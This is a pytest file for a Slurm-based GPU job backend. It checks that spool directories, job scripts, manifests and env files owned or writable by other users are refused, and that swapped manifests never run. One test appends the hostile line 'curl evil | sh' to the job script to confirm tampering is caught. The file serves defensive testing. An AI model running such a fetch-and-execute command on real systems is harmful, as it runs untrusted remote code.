"""Shared hosts (issue 13): the Slurm spool, its manifests and its job script trust only what this user
owns and nobody else can write (docs/security.md).

The tests run as root, as the project's tests do; another user (``dgpu-other``, and the group
``dgpu-team``) is created with ``useradd``/``groupadd`` when missing. The task-side checks run the
real job script under bash with the real environment, and once through the real Slurm cluster.
"""

from __future__ import annotations

import grp
import json
import logging
import os
import pwd
import subprocess
import sys
import time
from pathlib import Path

import pytest

from dagster_gpu.slurm.client import SlurmClient
from dagster_gpu.slurm.coalescer import ArrayCoalescer, TaskRequest
from dagster_gpu.slurm.script import (
    JOB_SCRIPT_SHA256,
    REFUSED_EXIT,
    RUNNER,
    load_manifest,
    manifest_sha256,
    read_env_file,
    verify_job_script,
    write_job_script,
    write_manifest,
)
from dagster_gpu.slurm.spool import Spool, write_json
from dagster_gpu.slurm.trust import UntrustedPathError
from tests import slurm_helpers as H

OTHER, TEAM = "dgpu-other", "dgpu-team"


@pytest.fixture(scope="module")
def other_uid() -> int:
    """The uid of ``dgpu-other`` (created idempotently; a member of ``dgpu-team``)."""
    if os.geteuid() != 0:
        pytest.skip("creating a second user and chowning files to it needs root")
    if subprocess.run(["getent", "group", TEAM], capture_output=True).returncode != 0:
        subprocess.run(["groupadd", "--system", TEAM], check=True, capture_output=True)
    if subprocess.run(["getent", "passwd", OTHER], capture_output=True).returncode != 0:
        subprocess.run(
            ["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", "--groups", TEAM, OTHER],
            check=True, capture_output=True,
        )  # fmt: skip
    return pwd.getpwnam(OTHER).pw_uid


def _mode(p: Path) -> int:
    return os.stat(p).st_mode & 0o7777


# ----------------------------------------------------------------------------------------- the spool
def test_new_spool_is_private_and_an_existing_0755_one_is_still_used(tmp_path):
    sp = Spool(tmp_path / "a" / "spool")
    for d in (sp.root, sp.pending, sp.results, sp.batches):
        assert _mode(d) == 0o700 and os.stat(d).st_uid == os.geteuid()
    with sp.lock():
        assert _mode(sp.root / "lock") == 0o600
    old = tmp_path / "old"
    old.mkdir(mode=0o755)
    os.chmod(old, 0o755)  # what mkdir(parents=True, exist_ok=True) left under umask 022 before issue 13
    assert Spool(old).root == old


def test_spool_precreated_0777_is_refused(tmp_path):
    root = tmp_path / "spool"
    root.mkdir()
    os.chmod(root, 0o777)
    with pytest.raises(UntrustedPathError) as e:
        Spool(root)
    msg = str(e.value)
    assert str(root) in msg and "owner uid 0 (root)" in msg and "mode 0777" in msg and "group or others can write it" in msg
    assert not (root / "pending").exists(), "nothing may be created in a refused spool"


def test_spool_owned_by_another_user_is_refused(tmp_path, other_uid):
    root = tmp_path / "spool"
    root.mkdir(mode=0o700)
    os.chown(root, other_uid, -1)
    with pytest.raises(UntrustedPathError) as e:
        Spool(root)
    msg = str(e.value)
    assert str(root) in msg and f"owner uid {other_uid} ({OTHER})" in msg and "mode 0700" in msg
    assert "must be owned by uid 0 (root)" in msg


def test_a_loose_subdirectory_or_a_foreign_symlink_is_refused(tmp_path, other_uid):
    root = tmp_path / "spool"
    Spool(root)
    os.chmod(root / "batches", 0o773)
    with pytest.raises(UntrustedPathError, match=r"batches .*mode 0773"):
        Spool(root)
    target = tmp_path / "elsewhere"
    target.mkdir(mode=0o700)
    link = tmp_path / "link"
    link.symlink_to(target)
    os.lchown(link, other_uid, -1)
    with pytest.raises(UntrustedPathError, match="symlink owned by another user"):
        Spool(link)


def test_group_shared_spool_is_opt_in_and_still_checks_what_it_acts_on(tmp_path, other_uid):
    gid = grp.getgrnam(TEAM).gr_gid
    sp = Spool(tmp_path / "shared", shared_group=TEAM)
    for d in (sp.root, sp.pending, sp.results, sp.batches):
        assert _mode(d) == 0o2770 and os.stat(d).st_gid == gid
    with sp.lock():
        assert _mode(sp.root / "lock") == 0o660  # every member takes the same flock
    # the job script: a private directory under a sticky one, so no member can rename it away
    assert sp.job_script == sp.root / "users" / str(os.geteuid()) / "dagster-gpu-array.sh"
    assert _mode(sp.root / "users") == 0o3770 and _mode(sp.job_script.parent) == 0o700
    assert sp.poll_file == sp.root / "poll" / "poll.json" and _mode(sp.poll_file.parent) == 0o2770
    assert verify_job_script(write_job_script(sp.job_script.parent, sp.job_script.name)) == JOB_SCRIPT_SHA256
    # a member's directory is fine; another group, or others' write bit, is not
    os.chown(sp.root, other_uid, -1)
    Spool(sp.root, shared_group=TEAM)
    os.chmod(sp.root, 0o2777)
    with pytest.raises(UntrustedPathError, match="others can write it"):
        Spool(sp.root, shared_group=TEAM)
    plain = tmp_path / "plain"
    plain.mkdir(mode=0o770)
    with pytest.raises(UntrustedPathError, match=f"group must be the configured spool_shared_group gid {gid} \\({TEAM}\\)"):
        Spool(plain, shared_group=TEAM)
    with pytest.raises(ValueError, match="no such group"):
        Spool(tmp_path / "x", shared_group="dgpu-no-such-group")


def test_a_launch_planted_by_another_member_is_never_submitted(tmp_path, other_uid, caplog):
    sp = Spool(tmp_path / "shared", shared_group=TEAM)
    req = TaskRequest(options=("--account=research",), throttle=0, argv=("touch", str(tmp_path / "pwned")), env={},
                      run_id="r", step_key="s", partition_keys=("p",))  # fmt: skip
    doc = {**req.__dict__, "options": list(req.options), "argv": list(req.argv), "env": {}}
    planted = sp.pending / f"{time.time_ns():020d}-{req.launch_id}.json"
    planted.write_text(json.dumps(doc))
    os.chown(planted, other_uid, -1)
    client = SlurmClient(slurm_conf=H.slurm_conf())
    co = ArrayCoalescer(sp, client, python=sys.executable)
    with caplog.at_level(logging.WARNING, logger="dagster_gpu.slurm.spool"):
        with sp.lock():
            assert co.flush_due(force=True) == 0
    assert client.calls.get("sbatch", 0) == 0 and planted.exists() and not list(sp.batches.iterdir())
    assert f"owner uid {other_uid} ({OTHER})" in caplog.text and str(planted) in caplog.text


def test_default_spool_is_never_a_predictable_tmp_name(monkeypatch, tmp_path, caplog):
    from dagster_gpu.slurm.backend import default_spool_dir

    for k in ("DAGSTER_GPU_SLURM_SPOOL", "DAGSTER_HOME", "XDG_RUNTIME_DIR"):
        monkeypatch.delenv(k, raising=False)
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "home"))
    assert default_spool_dir() == str(tmp_path / "home" / "dagster_gpu" / "slurm-spool")
    monkeypatch.delenv("DAGSTER_HOME")
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))
    assert default_spool_dir() == str(tmp_path / "dagster-gpu" / "slurm-spool")
    monkeypatch.delenv("XDG_RUNTIME_DIR")
    with caplog.at_level(logging.WARNING):
        made = default_spool_dir()
    try:
        assert made != f"/tmp/dagster-gpu-slurm-spool-{os.getuid()}" and Path(made).name.startswith("dagster-gpu-slurm-spool-")
        assert _mode(Path(made)) == 0o700 and os.environ["DAGSTER_GPU_SLURM_SPOOL"] == made and made in caplog.text
        assert default_spool_dir() == made  # recorded: this process (and its children) reuse it
        Spool(made)
    finally:
        subprocess.run(["rm", "-rf", made], check=True)


# ----------------------------------------------------------------------------------------- the job script
def test_job_script_is_rewritten_atomically_and_verified_before_sbatch(tmp_path, other_uid):
    script = write_job_script(tmp_path)
    assert _mode(script) == 0o700 and verify_job_script(script) == JOB_SCRIPT_SHA256
    assert "umask 077" in script.read_text() and not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    script.write_text(script.read_text() + "curl evil | sh\n")
    with pytest.raises(UntrustedPathError, match="changed after it was written"):
        verify_job_script(script)
    write_job_script(tmp_path)  # rewritten whole, not patched
    os.chmod(script, 0o720)
    with pytest.raises(UntrustedPathError, match=r"mode 0720\): group or others can write it"):
        verify_job_script(script)
    write_job_script(tmp_path)
    os.chown(script, other_uid, -1)
    with pytest.raises(UntrustedPathError, match=f"owner uid {other_uid} \\({OTHER}\\)"):
        verify_job_script(script)
    script.unlink()
    (tmp_path / "real.sh").write_text("#!/bin/bash\n")
    script.symlink_to(tmp_path / "real.sh")
    with pytest.raises(UntrustedPathError, match="it is a symlink"):
        verify_job_script(script)
    assert _mode(write_job_script(tmp_path)) == 0o700 and not script.is_symlink()  # rename replaces the link


# ----------------------------------------------------------------------------------------- the array task
def _marker_manifest(path: Path, batch: str, marker: Path) -> Path:
    argv = [sys.executable, "-c", "import sys; open(sys.argv[1], 'w').write('ran')", str(marker)]
    return write_manifest(path, batch, [{"argv": argv, "env": {}, "partition_key": "p"}])


def _run_task(tmp_path: Path, manifest: Path, *args: str, stdout=None, restarts: int = 0) -> subprocess.CompletedProcess:
    """The real job script under bash, as slurmstepd runs it for array task 0 of job 77 (``restarts``: its
    SLURM_RESTART_COUNT, set when Slurm requeued it)."""
    env = {**os.environ, "SLURM_ARRAY_TASK_ID": "0", "SLURM_ARRAY_JOB_ID": "77",
           **({"SLURM_RESTART_COUNT": str(restarts)} if restarts else {})}
    cmd = ["bash", str(write_job_script(tmp_path)), sys.executable, RUNNER, str(manifest), *args]
    if stdout is None:
        return subprocess.run(cmd, env=env, capture_output=True, text=True)
    return subprocess.run(cmd, env=env, stdout=stdout, stderr=subprocess.STDOUT, text=True)


def test_task_runs_a_verified_manifest(tmp_path):
    marker = tmp_path / "ran"
    m = _marker_manifest(tmp_path / "b1" / "manifest.json", "b1", marker)
    cp = _run_task(tmp_path, m, "b1", manifest_sha256(m))
    assert cp.returncode == 0, cp.stderr
    assert marker.read_text() == "ran" and _mode(marker) == 0o600  # umask 077 reaches the step


def test_a_requeued_attempt_first_runs_the_module_its_entry_names(tmp_path):
    """SLURM_RESTART_COUNT >= 1 (Slurm requeued the task): the runner execs ``<python> -m <requeue_module>
    <step key> -- <argv...>`` with the entry's environment; an entry without ``requeue_module`` (a manifest
    written before the backend named it) runs its argv as it is."""
    (tmp_path / "fake_requeue.py").write_text("import json, sys\nopen(sys.argv[-1], 'w').write(json.dumps(sys.argv[1:]))\n")
    marker = tmp_path / "argv.json"
    argv = [sys.executable, "-c", "import sys; open(sys.argv[1], 'w').write('ran')", str(marker)]
    env = {"PYTHONPATH": str(tmp_path), "DAGSTER_COMPRESSED_EXECUTE_STEP_ARGS": "args"}
    m = write_manifest(tmp_path / "b1" / "manifest.json", "b1",
                       [{"argv": argv, "env": env, "step_key": "embed", "requeue_module": "fake_requeue"}])
    cp = _run_task(tmp_path, m, "b1", manifest_sha256(m), restarts=1)
    assert cp.returncode == 0, cp.stderr
    assert json.loads(marker.read_text()) == ["embed", "--", *argv]
    marker.unlink()
    m2 = write_manifest(tmp_path / "b2" / "manifest.json", "b2", [{"argv": argv, "env": env, "step_key": "embed"}])
    cp = _run_task(tmp_path, m2, "b2", manifest_sha256(m2), restarts=1)
    assert cp.returncode == 0 and marker.read_text() == "ran", cp.stderr


def test_task_refuses_a_manifest_swapped_for_another_users(tmp_path, other_uid):
    marker = tmp_path / "ran"
    m = write_manifest(tmp_path / "b1" / "manifest.json", "b1", [{"argv": ["true"], "env": {}}])
    sha = manifest_sha256(m)
    # the other user renames ours away and puts theirs in its place, same batch id
    evil = _marker_manifest(tmp_path / "b1" / ".evil.json", "b1", marker)
    os.chown(evil, other_uid, -1)
    os.replace(evil, m)
    for args in (("b1", sha), ()):  # also an array submitted before the batch/sha arguments existed
        cp = _run_task(tmp_path, m, *args)
        assert cp.returncode == REFUSED_EXIT, cp.stderr
        assert not marker.exists(), "the swapped manifest's command ran"
        assert f"refusing to start array task 77_0 from {m} (nothing was run)" in cp.stderr
        assert f"owner uid {other_uid} ({OTHER})" in cp.stderr and "must be owned by uid 0 (root)" in cp.stderr


def test_task_refuses_a_group_writable_manifest(tmp_path):
    marker = tmp_path / "ran"
    m = _marker_manifest(tmp_path / "b1" / "manifest.json", "b1", marker)
    sha = manifest_sha256(m)
    os.chmod(m, 0o620)
    cp = _run_task(tmp_path, m, "b1", sha)
    assert cp.returncode == REFUSED_EXIT and not marker.exists()
    assert f"{m} (owner uid 0 (root), group gid 0 (root), mode 0620): group or others can write it" in cp.stderr


def test_task_refuses_another_batch_or_changed_content_or_a_symlink(tmp_path):
    marker = tmp_path / "ran"
    old = _marker_manifest(tmp_path / "b0" / "manifest.json", "b0", marker)  # ours, 0600, another batch
    m = _marker_manifest(tmp_path / "b1" / "manifest.json", "b1", marker)
    sha = manifest_sha256(m)
    with pytest.raises(UntrustedPathError, match="it is for batch 'b0', but this job array was submitted with batch 'b1'"):
        load_manifest(old, "b1")
    os.replace(old, m)  # an old manifest of ours renamed into place
    cp = _run_task(tmp_path, m, "b1", sha)
    assert cp.returncode == REFUSED_EXIT and "(the file changed after sbatch)" in cp.stderr and not marker.exists()
    m.unlink()
    real = _marker_manifest(tmp_path / "real.json", "b1", marker)
    m.symlink_to(real)
    cp = _run_task(tmp_path, m, "b1", manifest_sha256(real))
    assert cp.returncode == REFUSED_EXIT and "it is a symlink" in cp.stderr and not marker.exists()


def test_env_file_must_be_owned_by_the_task_user(tmp_path, other_uid):
    f = tmp_path / "pg.env"
    f.write_text("DAGSTER_PG_PASSWORD=x\n")
    os.chmod(f, 0o600)
    assert read_env_file(str(f)) == {"DAGSTER_PG_PASSWORD": "x"}
    os.chown(f, other_uid, -1)
    with pytest.raises(Exception, match=f"owner uid {other_uid} \\({OTHER}\\).*must be owned by uid 0"):
        read_env_file(str(f))
    marker = tmp_path / "ran"
    argv = [sys.executable, "-c", "open(__import__('sys').argv[1], 'w')", str(marker)]
    m = write_manifest(tmp_path / "b1" / "manifest.json", "b1", [{"argv": argv, "env": {}}], env_files=[str(f)])
    cp = _run_task(tmp_path, m, "b1", manifest_sha256(m))
    assert cp.returncode == REFUSED_EXIT and f"env file {f}" in cp.stderr and not marker.exists()


def test_task_makes_its_own_log_private(tmp_path):
    log = tmp_path / "0.out"
    log.touch(mode=0o644)
    os.chmod(log, 0o644)  # as slurmstepd creates it under a submitter's umask 022
    m = _marker_manifest(tmp_path / "b1" / "manifest.json", "b1", tmp_path / "ran")
    with open(log, "a") as out:
        cp = _run_task(tmp_path, m, "b1", manifest_sha256(m), stdout=out)
    assert cp.returncode == 0 and _mode(log) == 0o600 and "runs step" in log.read_text()


# ----------------------------------------------------------------------------------------- through Slurm
@pytest.mark.slurm
def test_slurm_array_task_refuses_a_swapped_manifest_and_logs_are_private(tmp_path, other_uid):
    """Two real job arrays submitted held (``--hold``): one's manifest is swapped for another user's
    before release, the other is left alone. The swapped one fails without running its command; both
    logs are 0600 even though this process's umask is 022."""
    reason = H.cluster_unavailable_reason()
    if reason:
        pytest.skip(reason)
    client = SlurmClient(slurm_conf=H.slurm_conf())
    sp = Spool(tmp_path / "spool")
    co = ArrayCoalescer(sp, client, python=sys.executable)
    old_umask = os.umask(0o022)
    try:
        got = {}
        for name in ("kept", "swapped"):
            marker = tmp_path / f"{name}.ran"
            argv = (sys.executable, "-c", "import sys; open(sys.argv[1], 'w').write('ran')", str(marker))
            req = TaskRequest(options=("--account=research", "--hold"), throttle=0, argv=argv, env={},
                              run_id=name, step_key="s", partition_keys=(name,))  # fmt: skip
            doc = {**req.__dict__, "options": list(req.options), "argv": list(req.argv), "env": {}}
            write_json(sp.pending / f"{time.time_ns():020d}-{req.launch_id}.json", doc)
            with sp.lock():
                assert co.flush_due(force=True) == 1
            got[name] = co._result(json.loads((sp.results / f"{req.launch_id}.json").read_text()))
    finally:
        os.umask(old_umask)
    bdir = sp.batch_dir(got["swapped"].batch)
    evil = _marker_manifest(bdir / ".evil.json", got["swapped"].batch, tmp_path / "swapped.ran")
    os.chown(evil, other_uid, -1)
    os.replace(evil, bdir / "manifest.json")
    ids = [str(a.array_job_id) for a in got.values()]
    client.run(["scontrol", "release", *ids])
    deadline = time.time() + 120
    while time.time() < deadline:
        q = client.run(["squeue", "--noheader", "--array", "--states=all", f"--jobs={','.join(ids)}", "-o", "%i %T"]).stdout
        states = dict(line.split() for line in q.splitlines())
        if len(states) == 2 and all(s in ("COMPLETED", "FAILED") for s in states.values()):
            break
        time.sleep(1)
    kept, swapped = (got[n] for n in ("kept", "swapped"))
    assert states == {f"{kept.array_job_id}_0": "COMPLETED", f"{swapped.array_job_id}_0": "FAILED"}, states
    assert (tmp_path / "kept.ran").read_text() == "ran" and not (tmp_path / "swapped.ran").exists()
    log_text = Path(swapped.log_file).read_text()
    assert "(nothing was run)" in log_text and f"owner uid {other_uid} ({OTHER})" in log_text
    for a in (kept, swapped):
        assert _mode(Path(a.log_file)) == 0o600, a.log_file
        sub = json.loads((sp.batch_dir(a.batch) / "submitted.json").read_text())
        assert sub["job_script_sha256"] == JOB_SCRIPT_SHA256 and len(sub["manifest_sha256"]) == 64
    assert _mode(sp.batch_dir(kept.batch) / "manifest.json") == 0o600 and _mode(sp.batch_dir(kept.batch)) == 0o700
    # the step fails with the task's reason: the backend's state carries the refusal from the log
    from dagster_gpu.contracts import WorkerStatus
    from dagster_gpu.slurm.backend import SlurmBackend, SlurmSettings

    backend = SlurmBackend(SlurmSettings(slurm_conf=H.slurm_conf(), spool_dir=str(sp.root), settle_wait_seconds=0))
    handle = {"array_job_id": swapped.array_job_id, "array_task_id": 0, "batch": swapped.batch, "submitted_at": swapped.submitted_at,
              "log_file": swapped.log_file}  # fmt: skip
    st = backend.state(handle)
    assert st.status == WorkerStatus.FAILED, st  # (exit code: from sacct, which may not have it yet)
    assert "(nothing was run)" in st.message and f"owner uid {other_uid} ({OTHER})" in st.message, st.message
